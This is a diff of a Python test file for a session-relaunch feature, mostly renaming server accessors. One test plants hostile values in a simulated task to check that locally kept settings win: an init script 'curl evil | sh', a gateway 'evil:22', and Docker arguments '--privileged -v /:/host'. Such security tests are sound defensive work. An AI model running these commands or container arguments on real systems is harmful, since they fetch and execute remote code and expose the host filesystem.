@@ -36,7 +36,7 @@ def ended(rig: CoreRig, spec: LaunchSpec = SPEC) -> SessionId:
         rig.server.add_session(ServerFacts(Remote.ENDED, "what is continued"), task="c1")
     session = rig.launch(spec)
     rig.server.end(session.task)
-    rig.core.store.see(session, rig.server.session(session.task, rig.soon()).facts)
+    rig.core.store.see(session, rig.server.sessions.get(session.task, rig.soon()).facts)
     return session
 
 
@@ -50,7 +50,7 @@ def test_a_session_of_this_computer_is_launched_with_all_its_options() -> None:
         before = rig.core.launches.last_spec(ACCOUNT.id)
         second = rig.launch(replace(again.spec, packages="numpy"))
         assert rig.core.launches.last_spec(ACCOUNT.id) == before
-        assert rig.server.tasks[second.task].draft.docker_args == rig.server.tasks[session.task].draft.docker_args
+        assert rig.server.rows[second.task].draft.docker_args == rig.server.rows[session.task].draft.docker_args
 
 
 def test_a_session_of_another_computer_is_launched_with_what_its_task_tells() -> None:
@@ -82,7 +82,7 @@ def test_what_this_computer_kept_counts_and_what_the_task_says_instead_is_named(
         session = ended(rig, kept)
         assert rig.core.history.again(session, rig.soon()).differs == ()
         rig.server.change(session.task, queue="evil", name="renamed")
-        task = rig.server.tasks[session.task]
+        task = rig.server.rows[session.task]
         task.parameters |= {"init_script": "curl evil | sh", "remote_gateway": "evil:22"}
         task.draft = replace(task.draft, docker="evil:1", docker_args="--privileged -v /:/host")
         again = rig.core.history.again(session, rig.soon())
@@ -130,9 +130,9 @@ def test_what_a_continued_session_stored_is_not_left_behind(
 ) -> None:
     with CoreRig(start=False) as rig:
         earlier = rig.server.add_session(ServerFacts(Remote.ENDED, "the earlier one"), task="earlier")
-        rig.server.tasks[earlier].folder = "~/older"
+        rig.server.rows[earlier].folder = "~/older"
         session = ended(rig, replace(SPEC, store_workspace=folder, continue_session=earlier))
-        rig.server.tasks[session.task].stored = stored
+        rig.server.rows[session.task].stored = stored
         spec = rig.core.history.again(session, rig.soon()).spec
         assert (spec.store_workspace, spec.continue_session.replace(session.task, "MINE")) == becomes
 
@@ -151,7 +151,7 @@ def test_without_its_task_what_is_kept_here_is_enough() -> None:
 def test_a_copy_whose_source_nobody_knows_is_refused() -> None:
     with CoreRig(start=False) as rig:
         session = ended(rig)
-        rig.server.tasks[session.task].parameters["debug_run"] = "{}"  # an older version told no more
+        rig.server.rows[session.task].parameters["debug_run"] = "{}"  # an older version told no more
         assert rig.core.history.again(session, rig.soon()).spec.name == SPEC.name
         rig.world.profiles.forget_session(session.text)
         with pytest.raises(AppError) as caught:
@@ -178,4 +178,4 @@ def test_ended_sessions_are_listed() -> None:
         session = ended(rig)
         rig.launch()
         assert rig.core.history.ended(ACCOUNT.id, rig.soon()) == (FinishedSession(session.task, SPEC.name),)
-        assert rig.server.tasks[session.task].facts.end is End.SHUT_DOWN
+        assert rig.server.rows[session.task].facts.end is End.SHUT_DOWN
